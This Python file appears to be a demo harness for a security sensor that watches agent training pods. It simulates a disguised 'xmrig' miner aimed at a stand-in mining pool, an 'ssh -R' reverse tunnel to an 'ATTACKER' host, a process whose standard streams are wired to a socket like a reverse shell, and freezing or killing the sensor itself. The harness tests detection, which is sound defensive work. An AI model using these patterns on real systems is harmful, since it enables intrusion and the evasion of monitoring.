"""One demo "pod": pid 1 of its own pid, network and mount namespaces (`unshare --net --pid --fork --mount-proc
--kill-child`), started by `trainguard demo` for one worker of the AgentTrainingJob.

It plays the workload (real processes, real sockets) and runs the REAL sensor beside it, as the pod's sidecar would:

- a trainer (`python3`, sleeping in a training loop) from the start;
- the sensor, bound to the pod's IP (on this namespace's own loopback; the demo forwards the host's pod IP to it);
- a stub (`python3`, waiting) started before the sensor, so that its pid is known: on `miner` it execs in place into
  `xmrig` (a symlink to the interpreter, so the kernel's comm is `xmrig`; the pid stays), the process that the
  replayed GPU trace puts on GPU 0 (the player writes the real pids into the trace before the sensor starts);
- on `tunnel`: a process named `ssh` whose command line is a reverse forward (`ssh -N -R ...`), holding a real TCP
  connection to the "attacker" listener at ATTACKER:22 (another network namespace, joined by a veth pair the demo
  creates; nothing leaves the machine).

The demo asks for a phase by creating the file `<workdir>/<phase>` (`miner`, `tunnel`, `scenario`); the player
writes `<workdir>/state.json` (pids, times) after each step. Pure standard library: it runs before anything else is
set up.

`scenario` plays `<workdir>/acts.json` (written by the demo from a recorded trace, `trainguard.cli.demo.trace_acts`),
each act at its offset in seconds from the trigger:

- `process`: a process named `name` (a symlink to the interpreter running ACTOR) with the recorded arguments; it
  opens the recorded sockets for real: listeners on `listen`, TCP connections kept established (a few bytes a
  second), connected UDP sockets, and a connect-send-close loop for a `TIME_WAIT` beacon; with `stdin`, its standard
  streams are its first connection (a reverse shell's shape). A connection that is cut is not reopened.
- `freeze`: the sensor stopped (SIGSTOP) for `seconds`, then continued;
- `restart`: the sensor killed, started again `seconds` later (its seq starts from 0 again).
"""

from __future__ import annotations

import json
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

#: What the trainer does: a training loop that mostly waits (the machine is shared).
TRAINER = "import time\nwhile True:\n    sum(i * i for i in range(20000))\n    time.sleep(0.2)\n"
#: What the miner does: a hash loop that mostly waits, named xmrig.
MINER = (
    "import hashlib, time\nh = b'rome'\nwhile True:\n"
    "    for _ in range(2000):\n        h = hashlib.sha256(h).digest()\n    time.sleep(0.2)\n"
)
#: The stub that becomes the miner: waits for its file, then execs in place (same pid) into xmrig.
STUB = (
    "import json, os, sys, time\nflag, spec = sys.argv[1:3]\n"
    "while not os.path.exists(flag):\n    time.sleep(0.05)\n"
    "argv = json.load(open(spec))\nos.execv(argv[0], argv)\n"
)
#: The tunnel: one TCP connection to the attacker, kept established, a few bytes a second each way.
TUNNEL = (
    "import socket, sys, time\n"
    "s = socket.create_connection((sys.argv[-1].split('@')[1], 22), timeout=10)\n"
    "s.settimeout(None)\n"
    "while True:\n    s.sendall(b'tunnel keepalive\\n')\n    s.recv(4096)\n    time.sleep(1)\n"
)

#: A recorded process, played for real: the sockets of its spec (the file named by TG_ACT), held until cut.
ACTOR = """
import json, os, socket, time
spec = json.load(open(os.environ.pop("TG_ACT")))
held, streams, beacons = [], [], []
for port in spec["listen"]:
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", port)); s.listen(8); held.append(s)
for c in spec["connect"]:
    if c["state"] == "TIME_WAIT":
        beacons.append(c)
        continue
    try:
        if c["proto"].startswith("udp"):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect((c["address"], c["port"]))
        else:
            s = socket.create_connection((c["address"], c["port"]), timeout=10)
        s.setblocking(False)
        streams.append(s)
    except OSError:
        pass
if spec["stdin"] and streams:
    for fd in (0, 1, 2):
        os.dup2(streams[0].fileno(), fd)
while True:
    for s in list(streams):
        try:
            s.send(b"keepalive\\n")
            s.recv(4096)
        except BlockingIOError:
            pass
        except OSError:
            streams.remove(s)  # cut (or refused): not reopened
    for c in beacons:  # connect, send, read the echo, close first: the socket stays in TIME_WAIT
        try:
            with socket.create_connection((c["address"], c["port"]), timeout=2) as b:
                b.sendall(b"beacon\\n"); b.recv(64)
        except OSError:
            pass
    time.sleep(1)
"""


def _write_state(work: Path, state: dict[str, Any]) -> None:
    tmp = work / "state.json.tmp"
    tmp.write_text(json.dumps(state))
    tmp.replace(work / "state.json")


def _named(work: Path, name: str) -> str:
    """A path whose basename is `name` and that runs this interpreter (the kernel's comm is the basename)."""
    link = work / "bin" / name
    link.parent.mkdir(exist_ok=True)
    if not link.exists():
        link.symlink_to(sys.executable)
    return str(link)


def container(attacker: str) -> int:
    """DEMO_REAL_NODE=1: the same workload as the trainer container of a real pod (the operator adds the real sensor
    as its sidecar; the pod shares one pid namespace): the trainer, the stub that becomes `xmrig` on `miner`, the
    `ssh`-named tunnel to `attacker`:22 on `tunnel` (the demo creates the files with `kubectl exec`). State in
    /tmp/demo/state.json."""
    work = Path("/tmp/demo")
    work.mkdir(parents=True, exist_ok=True)
    (work / "train.py").write_text(TRAINER)
    (work / "miner.py").write_text(MINER)
    (work / "tunnel.py").write_text(TUNNEL)
    trainer = subprocess.Popen([_named(work, "python3"), "-u", str(work / "train.py"), "--env", "sandbox"])
    miner_argv = [_named(work, "xmrig"), str(work / "miner.py"), "-o", "stratum+tcp://pool.minexmr.example:4444"]
    (work / "stub.json").write_text(json.dumps(miner_argv))
    stub = subprocess.Popen([_named(work, "python3"), "-c", STUB, str(work / "miner"), str(work / "stub.json")])
    state: dict[str, Any] = {"started": time.time(), "trainer": trainer.pid, "stub": stub.pid}
    _write_state(work, state)
    while True:
        if "miner" not in state and (work / "miner").exists():
            state["miner"], state["minerAt"] = stub.pid, time.time()
            _write_state(work, state)
        if "tunnel" not in state and (work / "tunnel").exists():
            tunnel = subprocess.Popen(
                [_named(work, "ssh"), str(work / "tunnel.py"), "-N", "-R", "2222:localhost:22", f"agent@{attacker}"]
            )
            state["tunnel"], state["tunnelAt"] = tunnel.pid, time.time()
            _write_state(work, state)
        time.sleep(0.05)


def main(argv: list[str]) -> int:
    if argv[:1] == ["--container"]:
        return container(argv[1])
    work, attacker = Path(argv[0]), argv[1]
    sensor_argv: list[str] = json.loads(argv[2])
    template = Path(argv[3])
    acts: list[dict[str, Any]] = json.loads(Path(argv[4]).read_text()) if len(argv) > 4 else []
    subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
    children: list[subprocess.Popen[bytes]] = []

    def stop(_signum: int, _frame: object) -> None:
        for child in children:
            child.kill()
        sys.exit(0)

    signal.signal(signal.SIGTERM, stop)
    log = (work / "pod.log").open("ab")
    state: dict[str, Any] = {"started": time.time()}
    (work / "train.py").write_text(TRAINER)
    trainer = subprocess.Popen([_named(work, "python3"), "-u", str(work / "train.py"), "--env", "sandbox"])
    children.append(trainer)
    state["trainer"] = trainer.pid
    # What the stub becomes, in a file: its own command line must not give it away before the exec.
    (work / "miner.py").write_text(MINER)
    (work / "tunnel.py").write_text(TUNNEL)
    miner_argv = [_named(work, "xmrig"), str(work / "miner.py"), "-o", "stratum+tcp://pool.minexmr.example:4444"]
    (work / "stub.json").write_text(json.dumps(miner_argv))
    stub = subprocess.Popen([_named(work, "python3"), "-c", STUB, str(work / "miner"), str(work / "stub.json")])
    children.append(stub)
    state["stub"] = stub.pid
    trace = (
        template.read_text().replace('"pid": -1', f'"pid": {trainer.pid}').replace('"pid": -2', f'"pid": {stub.pid}')
    )
    (work / "gpu.jsonl").write_text(trace)
    sensor = subprocess.Popen(sensor_argv, stdout=log, stderr=log)
    children.append(sensor)
    state["sensor"] = sensor.pid
    _write_state(work, state)
    (work / "actor.py").write_text(ACTOR)
    started: float | None = None
    pending: list[tuple[float, str, dict[str, Any]]] = []  # (when, what, act), for the scenario's acts
    while True:
        if sensor.poll() is not None and "sensorExited" not in state and "sensorDown" not in state:
            state["sensorExited"] = sensor.returncode
            _write_state(work, state)
        if started is None and acts and (work / "scenario").exists():
            started = time.time()
            pending = sorted(((started + a["at"], a["kind"], a) for a in acts), key=lambda p: p[0])
            state["scenarioAt"] = started
            _write_state(work, state)
        while pending and pending[0][0] <= time.time():
            _, kind, act = pending.pop(0)
            if kind == "process":
                spec = work / f"act-{len(state.get('acts', []))}.json"
                spec.write_text(json.dumps(act))
                argv_ = [_named(work, act["name"]), str(work / "actor.py"), *act["argv"][1:]]
                child = subprocess.Popen(argv_, env={"TG_ACT": str(spec), "PATH": "/usr/bin:/bin"})
                children.append(child)
                state.setdefault("acts", []).append({"name": act["name"], "pid": child.pid, "at": time.time()})
            elif kind == "freeze":
                sensor.send_signal(signal.SIGSTOP)
                pending.append((time.time() + act["seconds"], "continue", act))
                state.setdefault("sensorFrozen", []).append(time.time())
            elif kind == "continue":
                sensor.send_signal(signal.SIGCONT)
            elif kind == "restart":
                state["sensorDown"] = time.time()
                sensor.kill()
                sensor.wait()
                pending.append((time.time() + act["seconds"], "start", act))
            elif kind == "start":
                sensor = subprocess.Popen(sensor_argv, stdout=log, stderr=log)
                children.append(sensor)
                state["sensor"], state["sensorRestarted"] = sensor.pid, time.time()
                state.pop("sensorDown", None)
            pending.sort(key=lambda p: p[0])
            _write_state(work, state)
        if "miner" not in state and (work / "miner").exists():
            state["miner"], state["minerAt"] = stub.pid, time.time()
            _write_state(work, state)
        if "tunnel" not in state and (work / "tunnel").exists():
            tunnel = subprocess.Popen(
                [_named(work, "ssh"), str(work / "tunnel.py"), "-N", "-R", "2222:localhost:22", f"agent@{attacker}"]
            )
            children.append(tunnel)
            state["tunnel"], state["tunnelAt"] = tunnel.pid, time.time()
            _write_state(work, state)
        time.sleep(0.05)


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
